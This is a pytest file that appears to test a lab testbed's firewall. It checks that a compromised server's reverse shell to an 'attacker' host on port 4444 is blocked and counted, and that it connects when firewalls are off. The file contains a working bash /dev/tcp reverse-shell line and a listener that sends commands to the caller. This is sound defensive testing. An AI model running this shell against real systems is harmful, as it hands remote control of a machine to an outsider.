"""A server that has been broken into calls home: the firewall stops it and counts it; without one it gets through."""

from __future__ import annotations

import pytest
from runningtestbed import Commands, RunningTestbed

from topo.plan import plan
from topo.profile import Profile

pytestmark = pytest.mark.root
ATTACKER = plan(Profile()).host("attacker").ip
PORT = "4444"
# what whoever calls is told to do, and what came back
LISTEN = """
import socket, sys
listening = socket.create_server(("", int(sys.argv[1])))
print("listening", flush=True)
listening.settimeout(4)
try: caller, _ = listening.accept()
except TimeoutError: sys.exit("nobody called")
caller.sendall(b"hostname; exit\\n")
print(caller.recv(100).decode().strip())
"""
SHELL = f"exec bash >& /dev/tcp/{ATTACKER}/{PORT} 0>&1"


def called_home(bed: RunningTestbed) -> str:
    """What the attacker hears of a shell that srv1 sends him."""
    argv = ("exec", "--name", bed.name, "attacker", "--", "python3", "-c", LISTEN, PORT)
    with bed.commands.popen(*argv) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "listening\n"
        bed.exec("srv1", "timeout", "2", "bash", "-c", SHELL)
        heard, said = process.communicate(timeout=20)
        return heard.strip() or said.strip()


def test_a_reverse_shell_is_stopped_and_counted(bed: RunningTestbed) -> None:
    before = bed.counter("fw1", "deny-rest")
    assert called_home(bed) == "nobody called"
    assert bed.counter("fw1", "deny-rest") > before
    assert bed.connects("srv1", "lb", 3306), "srv1 reaches nothing at all"


def test_without_firewalls_it_gets_through(commands: Commands) -> None:
    assert called_home(commands.up("open", "--firewall", "off")) == "srv1"
